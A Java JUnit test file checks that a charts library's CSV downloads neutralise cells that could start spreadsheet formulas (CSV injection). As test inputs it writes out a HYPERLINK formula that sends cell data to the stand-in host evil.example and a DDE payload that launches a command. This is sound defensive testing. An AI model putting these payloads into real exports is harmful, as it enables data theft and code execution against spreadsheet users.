package org.dueregard.charts;

import org.dueregard.ProblemsException;
import org.dueregard.data.Dataset;
import org.dueregard.data.DatasetParser;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Issue 16: no cell of a CSV download can start a formula in a spreadsheet (OWASP CSV injection). */
class CsvTest {

    @Test
    void neutralisesEveryCellThatCouldStartAFormula() {
        assertEquals("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\"",
                Csv.text("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"));
        assertEquals("\"'+cmd|' /C calc'!A0\"", Csv.text("+cmd|' /C calc'!A0"));
        assertEquals("\"'-2+3\"", Csv.text("-2+3"));
        assertEquals("\"'@SUM(A1)\"", Csv.text("@SUM(A1)"));
        assertEquals("\"'\t=1+1\"", Csv.text("\t=1+1"));
        assertEquals("\"'\r=1+1\"", Csv.text("\r=1+1"));
        assertEquals("\"'  =1+1\"", Csv.text("  =1+1"));
        assertEquals("\"'\n@x\"", Csv.text("\n@x"));
        assertEquals("\"'\uFF1D1+1\"", Csv.text("\uFF1D1+1"));
        assertEquals("\"'-\"", Csv.text("-"));
    }

    @Test
    void leavesNumbersAndOrdinaryTextAlone() {
        assertEquals("-5", Csv.text("-5"));
        assertEquals("-0.25", Csv.text("-0.25"));
        assertEquals(" -5", Csv.text(" -5"));
        assertEquals("Lower middle", Csv.text("Lower middle"));
        assertEquals("\"Women, all\"", Csv.text("Women, all"));
        assertEquals("\"Say \"\"hi\"\"\"", Csv.text("Say \"hi\""));
        assertEquals("\"a\rb\"", Csv.text("a\rb"));
        assertEquals("a=b", Csv.text("a=b"));
        assertEquals("ab", Csv.text("a\u0001b"));
    }

    @Test
    void everyTextCellOfADownloadIsSafeAndNumbersStayNumbers() throws ProblemsException {
        Dataset d = DatasetParser.parse("d", """
                title: Change in staff
                source: Payroll
                columns:
                  - id: group
                    label: "=Group"
                  - id: before
                    type: count
                    unit: "@people"
                  - id: after
                    type: count
                  - id: change
                    type: count
                    compute: difference(after, before)
                rows:
                  - ["+cmd|' /C calc'!A0", 15, 12]
                  - ["-1", 20, 26]
                """, "content/d.yml");
        String csv = new String(Csv.of(d), StandardCharsets.UTF_8);
        assertEquals("\uFEFF\"'=Group\",Before (@people),After,Change\r\n\"'+cmd|' /C calc'!A0\",15,12,-3\r\n-1,20,26,6\r\n", csv);
        for (String line : csv.substring(1).split("\r\n")) {
            for (String cell : line.split(",")) {
                String unquoted = cell.startsWith("\"") ? cell.substring(1) : cell;
                assertFalse(!unquoted.matches("-?[0-9.]+") && "=+-@\t\r".indexOf(unquoted.charAt(0)) >= 0, cell);
            }
        }
        assertTrue(csv.contains(",-3\r\n"));
    }
}
